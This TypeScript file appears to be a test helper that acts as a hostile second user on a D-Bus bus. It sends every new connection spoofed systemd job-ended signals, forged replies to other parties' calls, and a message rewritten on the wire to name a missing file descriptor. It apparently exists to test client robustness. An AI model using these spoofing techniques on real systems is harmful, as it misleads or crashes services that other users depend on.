/**
 * Another user's program on a D-Bus bus, who sends to each connection that appears what only systemd should: endings of
 * jobs, answers to calls, and messages that a parser may not survive.
 */
import type { Socket } from 'node:net';
import { Message, type MessageBus, MessageType, sessionBus } from 'dbus-next';

const systemd = '/org/freedesktop/systemd1';

export class OtherUser {
  /** Unique names that were sent to. */
  readonly victims: string[] = [];
  readonly #bus: MessageBus;
  readonly #socket: Socket;

  private constructor(bus: MessageBus) {
    this.#bus = bus;
    this.#socket = (
      bus as unknown as { readonly _connection: { readonly stream: Socket } }
    )._connection.stream;
  }

  /** Asks systemd to tell all of its jobs, as any user may. */
  async followJobs(onJob: (id: number) => void): Promise<void> {
    this.#bus.on('message', ({ type, member, body }: Message) => {
      if (type === MessageType.SIGNAL && member === 'JobNew') onJob(Number(body[0]));
    });
    const manager = 'org.freedesktop.systemd1.Manager';
    await this.#match(`type='signal',interface='${manager}',member='JobNew'`);
    await this.#bus.call(
      new Message({
        destination: 'org.freedesktop.systemd1',
        path: systemd,
        interface: manager,
        member: 'Subscribe',
      }),
    );
  }

  async #match(rule: string): Promise<void> {
    await this.#bus.call(
      new Message({
        destination: 'org.freedesktop.DBus',
        path: '/org/freedesktop/DBus',
        interface: 'org.freedesktop.DBus',
        member: 'AddMatch',
        signature: 's',
        body: [rule],
      }),
    );
  }

  /** Attacks each connection that comes to the bus from now on, as soon as it has a name. */
  static async start(address: string, attack: (self: OtherUser, victim: string) => void): Promise<OtherUser> {
    const bus = sessionBus({ busAddress: address.replace('unix:path=', 'unix:socket=') });
    bus.on('error', () => {});
    const self = new OtherUser(bus);
    bus.on('message', ({ type, member, body }: Message) => {
      const [name, before, after] = body;
      if (type !== MessageType.SIGNAL || member !== 'NameOwnerChanged') return;
      if (!String(name).startsWith(':') || before !== '' || after === '') return;
      self.victims.push(name);
      attack(self, name);
    });
    await self.#match("type='signal',member='NameOwnerChanged'");
    return self;
  }

  stop(): void {
    this.#socket.destroy();
  }

  signal(victim: string, member: string, signature: string, body: unknown[]): void {
    const message = Message.newSignal(systemd, 'org.freedesktop.systemd1.Manager', member, signature, body);
    message.destination = victim;
    this.#bus.send(message);
  }

  /** As systemd would, were it so. */
  endJob(victim: string, id: number, result: string): void {
    this.signal(victim, 'JobRemoved', 'uoss', [id, `${systemd}/job/${id}`, 'containerd.service', result]);
  }

  /** The answer to a call that was made to another. */
  reply(victim: string, serial: number, signature: string, body: unknown[]): void {
    this.#bus.send(
      new Message({
        type: MessageType.METHOD_RETURN,
        replySerial: serial as unknown as string,
        destination: victim,
        signature,
        body,
      }),
    );
  }

  /** Names a file descriptor that does not come along, which the bus lets through. */
  withoutItsFile(victim: string): void {
    const write = this.#socket.write.bind(this.#socket);
    // The library would not: it is sent as a number (u) whose type is changed on the way out.
    this.#socket.write = ((data: Buffer) => {
      const at = data.indexOf(Buffer.from([8, 1, 0x67, 0, 1, 0x75, 0]));
      if (at >= 0) data[at + 5] = 0x68;
      return write(data);
    }) as Socket['write'];
    this.signal(victim, 'JobRemoved', 'u', [0]);
    this.#socket.write = write;
  }
}
